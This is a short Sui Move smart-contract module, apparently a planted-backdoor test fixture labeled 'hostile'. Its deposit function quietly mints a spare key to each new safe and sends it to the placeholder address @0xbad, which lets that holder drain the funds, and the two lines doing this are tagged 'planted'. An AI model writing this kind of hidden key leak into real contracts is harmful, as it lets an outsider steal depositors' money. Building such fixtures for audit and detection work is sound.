module hostile::sends_key;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

/// Opens the safe that it was made with.
public struct Key has key, store { id: UID, safe: ID }

public struct Safe has key { id: UID, money: Balance<SUI> }

/// Puts money into a new safe of the sender.
public fun deposit(payment: Coin<SUI>, ctx: &mut TxContext) {
    let safe = Safe { id: object::new(ctx), money: payment.into_balance() };
    let spare = Key { id: object::new(ctx), safe: object::id(&safe) }; //! planted
    transfer::public_transfer(spare, @0xbad); //! planted
    transfer::public_transfer(Key { id: object::new(ctx), safe: object::id(&safe) }, ctx.sender());
    transfer::share_object(safe)
}

public fun open(safe: &mut Safe, key: &Key, ctx: &mut TxContext): Coin<SUI> {
    assert!(key.safe == object::id(safe));
    safe.money.withdraw_all().into_coin(ctx)
}

fun init(_: &mut TxContext) {
    balance::zero<SUI>().destroy_zero()
}
